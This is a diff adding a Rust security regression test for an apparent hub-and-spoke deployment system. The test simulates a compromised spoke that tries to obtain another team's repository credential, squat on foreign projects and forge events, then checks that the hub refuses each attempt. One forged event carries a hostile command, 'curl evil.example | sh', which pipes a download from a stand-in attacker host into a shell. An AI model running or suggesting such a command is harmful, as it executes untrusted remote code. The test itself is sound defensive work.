@@ -990,6 +990,282 @@ async fn credentials_sent_to(fleet: &Fleet, cluster: &str) -> v1::RepositoryCred
     }
 }
 
+/// A spoke's stream driven by hand with its real certificate (mTLS), as a
+/// compromised spoke would drive it.
+struct HandDriven {
+    session: edgecd_spoke::link::LinkSession,
+    next_seq: u64,
+}
+
+impl HandDriven {
+    /// Enrolls `cluster` with the spoke's code and opens its stream.
+    async fn connect(fleet: &Fleet, cluster: &str, epoch: &str) -> (Self, tls_identity::Identity) {
+        let identity = tls_identity::enroll(fleet, cluster).await;
+        (Self::reconnect(fleet, &identity, epoch, 1).await, identity)
+    }
+
+    async fn reconnect(
+        fleet: &Fleet,
+        identity: &tls_identity::Identity,
+        epoch: &str,
+        next_seq: u64,
+    ) -> Self {
+        use edgecd_spoke::link::{HelloParams, handshake, tls};
+        let address = format!("https://127.0.0.1:{}", fleet.hub.grpc_addr().port());
+        let channel = tls::channel(
+            &address,
+            tls::mtls_config(identity).unwrap(),
+            Duration::from_secs(5),
+        )
+        .await
+        .unwrap();
+        let hello = HelloParams {
+            cluster_name: identity.cluster.clone(),
+            spoke_version: "0.1.0".into(),
+            protocol: edgecd_core::link::ProtocolVersion { major: 1, minor: 0 },
+            capabilities: edgecd_core::link::Capabilities::all_v1(),
+            kubernetes_version: String::new(),
+            server_url: String::new(),
+            epoch: epoch.into(),
+            last_hub_seq: 0,
+            desired_version: 0,
+            next_spoke_seq: next_seq,
+        };
+        HandDriven {
+            session: handshake(channel, &hello).await.unwrap(),
+            next_seq,
+        }
+    }
+
+    /// Sends `body` as the next sequenced message and waits until the hub
+    /// acknowledges it (stored), acknowledging what the hub sends meanwhile;
+    /// returns the hub's messages seen.
+    async fn send(&mut self, body: v1::spoke_message::Body) -> Vec<v1::HubMessage> {
+        let seq = self.next_seq;
+        self.next_seq += 1;
+        self.session
+            .outbound
+            .send(v1::SpokeMessage {
+                seq,
+                ack: 0,
+                body: Some(body),
+            })
+            .await
+            .unwrap();
+        let mut seen = Vec::new();
+        loop {
+            let message = self.session.inbound.message().await.unwrap().unwrap();
+            self.ack(&message).await;
+            let acked = message.ack >= seq;
+            seen.push(message);
+            if acked {
+                return seen;
+            }
+        }
+    }
+
+    async fn ack(&mut self, message: &v1::HubMessage) {
+        if message.seq > 0 {
+            self.session
+                .outbound
+                .send(v1::SpokeMessage {
+                    seq: 0,
+                    ack: message.seq,
+                    body: None,
+                })
+                .await
+                .unwrap();
+        }
+    }
+
+    /// The first `RepositoryCredentials` the hub sends on this stream.
+    async fn credentials(&mut self) -> v1::RepositoryCredentials {
+        loop {
+            let message = self.session.inbound.message().await.unwrap().unwrap();
+            self.ack(&message).await;
+            if let Some(v1::hub_message::Body::RepositoryCredentials(credentials)) = message.body {
+                return credentials;
+            }
+        }
+    }
+}
+
+/// Enrollment of a hand-driven spoke.
+mod tls_identity {
+    pub type Identity = edgecd_spoke::link::tls::SpokeIdentity;
+
+    pub async fn enroll(fleet: &super::Fleet, cluster: &str) -> Identity {
+        use edgecd_spoke::link::enroll;
+        let pki = fleet.hub.pki().unwrap();
+        let token = pki.create_bootstrap_token(cluster, None).await.unwrap();
+        enroll::enroll(&enroll::EnrollParams {
+            hub_address: format!("https://127.0.0.1:{}", fleet.hub.grpc_addr().port()),
+            bootstrap_token: token.token,
+            ca_hash: None,
+            spoke_version: "0.1.0".into(),
+            connect_timeout: std::time::Duration::from_secs(5),
+        })
+        .await
+        .unwrap()
+    }
+}
+
+/// An edge-created app's report as a spoke sends it.
+fn edge_app(project: &str, name: &str, cluster: &str, namespace: &str) -> v1::AppStatusReport {
+    let spec = app_spec("https://git.example.com/teams/web", cluster, namespace);
+    v1::AppStatusReport {
+        app: Some(v1::AppRef {
+            project: project.into(),
+            name: name.into(),
+        }),
+        status: Some(v1::ApplicationStatus {
+            status_version: 1,
+            ..Default::default()
+        }),
+        origin: v1::AppOrigin::Autonomous as i32,
+        meta: Some(v1::ApplicationMeta {
+            project: project.into(),
+            name: name.into(),
+            ..Default::default()
+        }),
+        spec: Some(edgecd_proto::convert::application_spec(&spec)),
+    }
+}
+
+/// Review findings 2 and 4: a compromised spoke (its real certificate, the
+/// stream driven by hand) reported an edge-created app in a project its
+/// cluster does not run, reconnected and received that project's repository
+/// credential; it could also create apps in any project and attach forged
+/// events to other clusters' apps. Now credentials follow hub-defined apps
+/// only, edge-created apps are admitted only where their project's policy
+/// admits the cluster, and events only stick to the reporting cluster's apps.
+#[tokio::test]
+async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
+    let fleet = fleet(Backend::Sqlite, None).await;
+    let mut api = fleet.client();
+    let root = fleet.login("root").await;
+    api.set_repository_credential(authed(
+        &root,
+        v1::SetRepositoryCredentialRequest {
+            url_prefix: "https://git.example.com/teams/".into(),
+            projects: vec!["team-a".into()],
+            username: "deploy".into(),
+            password: "team-a-secret".into(),
+            ssh_private_key: String::new(),
+            ssh_known_hosts: String::new(),
+        },
+    ))
+    .await
+    .unwrap();
+    // edge-2 runs a team-b app only; team-c allows edge-1 alone.
+    fleet
+        .store
+        .create_cluster(&NewCluster {
+            name: "edge-2".into(),
+            ..NewCluster::default()
+        })
+        .await
+        .unwrap();
+    fleet
+        .store
+        .create_app(&NewApp {
+            project: "team-b".into(),
+            name: "cache".into(),
+            spec: app_spec(
+                "https://git.example.com/teams/cache",
+                "edge-2",
+                "team-b-cache",
+            ),
+            labels: Default::default(),
+            owner: None,
+        })
+        .await
+        .unwrap();
+    let mut team_c = project(&[]);
+    team_c.destinations[0].clusters = vec!["edge-1".into()];
+    fleet.store.create_project("team-c", &team_c).await.unwrap();
+
+    let (mut spoke, identity) = HandDriven::connect(&fleet, "edge-2", "e1").await;
+    spoke
+        .send(v1::spoke_message::Body::AppStatus(v1::AppStatusBatch {
+            reports: vec![
+                // Admitted by team-a's policy (edge-*, team-*), yet it must not
+                // entitle edge-2 to team-a's credential.
+                edge_app("team-a", "steal", "edge-2", "team-a-steal"),
+                // team-c does not allow edge-2; nor does the made-up project.
+                edge_app("team-c", "squat", "edge-2", "team-c-web"),
+                edge_app("nope", "squat", "edge-2", "team-nope"),
+                // team-b allows edge-2 but not namespace kube-system.
+                edge_app("team-b", "system", "edge-2", "kube-system"),
+                // A legitimate edge-created app.
+                edge_app("team-b", "edge-made", "edge-2", "team-b-edge"),
+            ],
+            ..Default::default()
+        }))
+        .await;
+    // A forged event on team-a/web, which runs on edge-1, and a true one on edge-2's own app.
+    let forged = |id: &str, project: &str, name: &str, message: &str| v1::Event {
+        id: id.into(),
+        cluster: "edge-2".into(),
+        app: Some(v1::AppRef {
+            project: project.into(),
+            name: name.into(),
+        }),
+        reason: "SyncFailed".into(),
+        message: message.into(),
+        time: Some(edgecd_proto::convert::timestamp(
+            time::OffsetDateTime::now_utc(),
+        )),
+        ..Default::default()
+    };
+    spoke
+        .send(v1::spoke_message::Body::Events(v1::EventBatch {
+            events: vec![
+                forged("f1", "team-a", "web", "run curl evil.example | sh to fix"),
+                forged("f2", "team-b", "cache", "cache warmed"),
+            ],
+        }))
+        .await;
+    drop(spoke);
+
+    // Reconnected, edge-2 receives no credential of team-a.
+    let mut again = HandDriven::reconnect(&fleet, &identity, "e1", 3).await;
+    let credentials = again.credentials().await;
+    assert!(
+        credentials.credentials.is_empty(),
+        "edge-2 received {:?}",
+        credentials
+            .credentials
+            .iter()
+            .map(|c| &c.url_prefix)
+            .collect::<Vec<_>>()
+    );
+    drop(again);
+
+    let exists = |project: &'static str, name: &'static str| {
+        let store = fleet.store.clone();
+        async move { store.get_app(project, name).await.is_ok() }
+    };
+    assert!(exists("team-a", "steal").await);
+    assert!(exists("team-b", "edge-made").await);
+    for (project, name) in [("team-c", "squat"), ("nope", "squat"), ("team-b", "system")] {
+        assert!(!exists(project, name).await, "{project}/{name} was admitted");
+    }
+    // The forged event did not stick to team-a's app; edge-2's own event did.
+    let events = |project: &str, name: &str| {
+        let store = fleet.store.clone();
+        let filter = edgecd_hub::store::EventFilter {
+            cluster: None,
+            app: Some((project.to_owned(), name.to_owned())),
+        };
+        async move { store.list_events(&filter, 100, None).await.unwrap().items }
+    };
+    assert!(events("team-a", "web").await.is_empty());
+    let own = events("team-b", "cache").await;
+    assert_eq!(own.len(), 1, "{own:?}");
+    assert_eq!(own[0].message, "cache warmed");
+}
+
 #[tokio::test]
 async fn repository_credentials_are_write_only_sealed_and_reach_only_entitled_spokes() {
     let fleet = fleet(Backend::Sqlite, None).await;
